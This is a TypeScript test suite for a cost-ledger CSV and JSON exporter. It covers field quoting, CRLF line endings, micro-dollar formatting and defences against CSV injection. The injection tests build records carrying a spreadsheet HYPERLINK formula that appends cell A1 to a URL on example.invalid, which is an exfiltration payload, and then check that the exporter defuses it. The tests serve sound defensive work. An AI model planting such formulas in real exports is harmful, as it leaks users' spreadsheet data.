import assert from 'node:assert/strict';
import { totals } from '../../../../src/core/ledger/query';
import { csvTextField, microUsdToDollars } from '../../../../src/core/report/csv';
import { ledgerToCsv, ledgerToJson } from '../../../../src/core/report/exportLedger';
import { ZERO_USAGE } from '../../../../src/core/usage/usage';
import type { CallOutcome, LedgerRecord } from '../../../../src/core/ledger/record';
import type { ProviderId } from '../../../../src/core/models/providers';
import type { TaskKind } from '../../../../src/core/models/tasks';
import { makeRecord } from '../ledger/fixtures';
import { LEDGER } from './ledger';

const HEADER =
  'time,session,task,model,provider,input,cache_read,cache_write_5m,cache_write_1h,output,reasoning,cost_usd,gateway_cost_usd,latency_ms,outcome,batch,estimated,request_id,reason,error';

/** A test-only RFC 4180 reader: rows of fields, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  assert.equal(field + row.join(''), '', 'the last row ends with CRLF');
  return rows;
}

/** "12.345678" → 12,345,678 micro-dollars, from the digits. */
const toMicro = (dollars: string): number => {
  const [whole, fraction] = dollars.split('.');
  assert.equal(fraction.length, 6);
  return Number(whole) * 1_000_000 + Number(fraction);
};

describe('ledgerToCsv', () => {
  it('writes a header and one row per call, every line ending CRLF', () => {
    const csv = ledgerToCsv(LEDGER);
    const lines = csv.split('\r\n');
    assert.equal(lines[0], HEADER);
    assert.equal(lines.length, LEDGER.length + 2); // header, 7 rows, and the empty text after the last CRLF
    assert.equal(lines.at(-1), '');
    assert.ok(!/[^\r]\n/.test(csv), 'no bare LF');
  });

  it('writes each field as stored, cost in dollars to the micro-dollar', () => {
    const record = makeRecord({
      id: 'x',
      time: '2026-03-10T13:00:00.000Z',
      session: 's1',
      task: 'review',
      model: 'claude-haiku-4-5',
      provider: 'anthropic',
      usage: { input: 2000, cacheRead: 0, cacheWrite5m: 5000, cacheWrite1h: 7, output: 1000, reasoning: 12 },
      costMicroUsd: 6625,
      latencyMs: 1234,
      batch: true,
      requestId: 'msg_01',
    });
    assert.equal(
      ledgerToCsv([record]).split('\r\n')[1],
      '2026-03-10T13:00:00.000Z,s1,review,claude-haiku-4-5,anthropic,2000,0,5000,7,1000,12,0.006625,,1234,ok,true,false,msg_01,,',
    );
  });

  it('writes a gateway\'s own cost beside Tandem\'s when the gateway reported one', () => {
    const row = ledgerToCsv([makeRecord({ id: 'g', time: '2026-03-10T13:00:00.000Z', costMicroUsd: 1250, gatewayCostMicroUsd: 1300 })]).split('\r\n')[1].split(',');
    const header = HEADER.split(',');
    assert.equal(row[header.indexOf('cost_usd')], '0.001250');
    assert.equal(row[header.indexOf('gateway_cost_usd')], '0.001300');
  });

  it('quotes a reason with a comma and a quote, and an error with a line break', () => {
    const record = makeRecord({ id: 'q', time: '2026-03-10T13:00:00.000Z', reason: 'cheaper, "fast" model', error: 'line one\nline two' });
    const row = ledgerToCsv([record]).split('\r\n')[1];
    assert.ok(row.endsWith(',"cheaper, ""fast"" model","line one\nline two"'), row);
    const [, parsed] = parseCsv(ledgerToCsv([record]));
    assert.deepEqual(parsed.slice(-2), ['cheaper, "fast" model', 'line one\nline two']);
  });

  it('reads back to the same number of columns per row, and its cost column sums to the ledger total exactly', () => {
    const rows = parseCsv(ledgerToCsv(LEDGER));
    assert.ok(rows.every((r) => r.length === 20));
    const cost = rows[0].indexOf('cost_usd');
    const sum = rows.slice(1).reduce((s, r) => s + toMicro(r[cost]), 0);
    assert.equal(sum, 17_150);
    assert.equal(sum, totals(LEDGER).costMicroUsd);
    assert.deepEqual(rows.slice(1).map((r) => r[cost]), ['0.001650', '0.004050', '0.000525', '0.003000', '0.006625', '0.001300', '0.000000']);
  });
});

describe('CSV export against spreadsheet formulas (CSV injection)', () => {
  /** Every first character OWASP lists as one a spreadsheet runs as a formula. */
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const TEXT_COLUMNS = ['time', 'session', 'task', 'model', 'provider', 'outcome', 'request_id', 'reason', 'error'] as const;

  /** A record whose every text field starts with `trigger` (enums too: a damaged or future ledger is read as it is). */
  function poisoned(trigger: string): LedgerRecord {
    const payload = (field: string) => `${trigger}HYPERLINK("https://example.invalid/?q="&A1,"${field}")`;
    return {
      ...makeRecord({ id: 'p', time: payload('time') }),
      session: payload('session'),
      task: payload('task') as TaskKind,
      model: payload('model'),
      provider: payload('provider') as ProviderId,
      outcome: payload('outcome') as CallOutcome,
      requestId: payload('request_id'),
      reason: payload('reason'),
      error: payload('error'),
    };
  }

  it('opens a request id that begins with = as text: a leading single quote, the cell quoted', () => {
    const record = makeRecord({ id: 'r', time: '2026-03-10T13:00:00.000Z', requestId: '=1+2' });
    const row = ledgerToCsv([record]).split('\r\n')[1];
    assert.ok(row.endsWith(',"\'=1+2",,'), row);
    const [header, parsed] = parseCsv(ledgerToCsv([record]));
    assert.equal(parsed[header.indexOf('request_id')], "'=1+2");
  });

  for (const trigger of TRIGGERS) {
    it(`neutralises every text column that starts with ${JSON.stringify(trigger)}`, () => {
      const csv = ledgerToCsv([poisoned(trigger)]);
      const [header, row] = parseCsv(csv);
      assert.equal(row.length, header.length);
      for (const column of TEXT_COLUMNS) {
        const cell = row[header.indexOf(column)];
        // Read back: the quote, then the value exactly as stored.
        assert.equal(cell, `'${trigger}HYPERLINK("https://example.invalid/?q="&A1,"${column}")`, column);
      }
      // On the wire every such cell opens with a quote character and the single quote: never the trigger itself.
      const fields = csv.split('\r\n')[1];
      assert.ok(!new RegExp(`(^|,)${trigger === '+' ? '\\+' : trigger}`).test(fields), fields);
    });
  }

  it('quotes and prefixes only what would run: other text is written as before', () => {
    assert.equal(csvTextField('msg_01'), 'msg_01');
    assert.equal(csvTextField(''), '');
    assert.equal(csvTextField('a=b'), 'a=b');
    assert.equal(csvTextField('cheaper, "fast"'), '"cheaper, ""fast"""');
    assert.equal(csvTextField('-'), '"\'-"');
    assert.equal(csvTextField('@SUM(A1)'), '"\'@SUM(A1)"');
    assert.equal(csvTextField('=A1,"x"'), '"\'=A1,""x"""');
    assert.equal(csvTextField('\tx'), '"\'\tx"');
    assert.equal(csvTextField('\r\nx'), '"\'\r\nx"');
  });

  it('leaves number columns as numbers, a negative latency included (a number, not a formula)', () => {
    const record = makeRecord({
      id: 'n', time: '2026-03-10T13:00:00.000Z', latencyMs: -5, costMicroUsd: 1250, gatewayCostMicroUsd: 1300,
      usage: { input: 2000, cacheRead: 1, cacheWrite5m: 2, cacheWrite1h: 3, output: 4, reasoning: 5 },
    });
    const row = ledgerToCsv([record]).split('\r\n')[1];
    assert.equal(row, '2026-03-10T13:00:00.000Z,s1,generateCode,gpt-5.4-mini,openai,2000,1,2,3,4,5,0.001250,0.001300,-5,ok,false,false,,,');
  });

  it('leaves the JSON export exactly as stored', () => {
    const record = poisoned('=');
    assert.deepEqual(JSON.parse(ledgerToJson([record])), [{ ...record, signals: [] }]);
    assert.ok(ledgerToJson([record]).includes('"requestId": "=HYPERLINK('));
  });
});

describe('microUsdToDollars', () => {
  it('formats from the integer, so no binary fraction creeps in', () => {
    assert.equal(microUsdToDollars(0), '0.000000');
    assert.equal(microUsdToDollars(1), '0.000001');
    assert.equal(microUsdToDollars(12_345_678), '12.345678');
    assert.equal(microUsdToDollars(100_000_000), '100.000000');
    assert.equal(microUsdToDollars(Number.MAX_SAFE_INTEGER), '9007199254.740991'); // division would print ...740992
    assert.equal(microUsdToDollars(-1_500_000), '-1.500000');
  });
});

describe('ledgerToJson', () => {
  it('is the records exactly as stored, each with its quality signals, and nothing else', () => {
    const json = ledgerToJson(LEDGER);
    assert.deepEqual(JSON.parse(json), LEDGER.map((r) => ({ ...r, signals: [] })));
    assert.ok(json.startsWith('[\n  {\n    "v": 1,'));
    const parsed = JSON.parse(json) as { costMicroUsd: number }[];
    assert.equal(parsed.reduce((s, r) => s + r.costMicroUsd, 0), 17_150);
  });

  it('keeps optional fields only where the record has them', () => {
    const [parsed] = JSON.parse(ledgerToJson([makeRecord({ id: 'a', time: '2026-03-10T13:00:00.000Z', usage: ZERO_USAGE })])) as Record<string, unknown>[];
    assert.ok(!('reason' in parsed) && !('error' in parsed) && !('requestId' in parsed));
  });
});
